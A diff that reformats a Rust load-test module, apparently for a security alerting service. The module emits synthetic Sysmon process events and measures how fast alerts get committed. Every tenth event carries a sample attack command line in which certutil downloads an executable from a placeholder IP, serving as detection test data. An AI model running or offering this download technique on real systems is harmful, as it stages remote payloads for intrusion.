@@ -1,9 +1,9 @@
 //! From the acceptance of an event to its committed alert.
 
 use super::quantile;
+use crate::events;
 use crate::wait::until;
 use crate::world::LocalWorld;
-use crate::events;
 use aisoc_model::region::PostgresRole;
 use aisoc_model::topology::Topology;
 use anyhow::{Context, Result};
@@ -24,7 +24,10 @@ const ATTACK_EVERY: usize = 10;
 /// When the world does not answer, or an alert is missing after a minute.
 pub async fn print(world: &LocalWorld, rate: usize) -> Result<()> {
     let token = world.token("api-acme")?;
-    let ingest = format!("http://127.0.0.1:{}", world.port("us-east-1/ingest", "http").await?);
+    let ingest = format!(
+        "http://127.0.0.1:{}",
+        world.port("us-east-1/ingest", "http").await?
+    );
     let run = uuid::Uuid::now_v7().simple().to_string();
     let mut ticks = tokio::time::interval(Duration::from_secs(1) / u32::try_from(BATCHES)?);
     let rounds = usize::try_from(OVER.as_secs())? * BATCHES;
@@ -63,11 +66,18 @@ fn mixed(run: &str, round: usize, count: usize) -> (serde_json::Value, usize) {
             let attack = n % ATTACK_EVERY == 0;
             attacks += usize::from(attack);
             let (image, line) = if attack {
-                ("C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe")
+                (
+                    "C:\\Windows\\System32\\certutil.exe",
+                    "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe",
+                )
             } else {
                 ("C:\\Windows\\System32\\notepad.exe", "notepad.exe notes.txt")
             };
-            let host = if attack { format!("lat-{run}-{round}-{n}") } else { format!("ws-{}", n % 7) };
+            let host = if attack {
+                format!("lat-{run}-{round}-{n}")
+            } else {
+                format!("ws-{}", n % 7)
+            };
             serde_json::json!({
                 "event_id": format!("{run}-{round}-{n}"),
                 "SourceName": "Microsoft-Windows-Sysmon",
@@ -96,9 +106,17 @@ async fn writer(world: &LocalWorld) -> Result<sqlx::PgPool> {
     let region = seen
         .regions
         .values()
-        .find(|r| r.postgres.value.as_ref().is_some_and(|p| p.role == PostgresRole::Writer))
+        .find(|r| {
+            r.postgres
+                .value
+                .as_ref()
+                .is_some_and(|p| p.role == PostgresRole::Writer)
+        })
         .context("no writer is seen")?;
-    let at = &topology.region(&region.id).context("a region that is not in the topology")?.postgres;
+    let at = &topology
+        .region(&region.id)
+        .context("a region that is not in the topology")?
+        .postgres;
     let (host, port) = at.rsplit_once(':').context("postgres address without a port")?;
     let options = PgConnectOptions::new_without_pgpass()
         .host(host)
@@ -106,5 +124,8 @@ async fn writer(world: &LocalWorld) -> Result<sqlx::PgPool> {
         .username(&topology.database.user)
         .password(&topology.database.password)
         .database(&topology.database.database);
-    Ok(PgPoolOptions::new().max_connections(1).connect_with(options).await?)
+    Ok(PgPoolOptions::new()
+        .max_connections(1)
+        .connect_with(options)
+        .await?)
 }
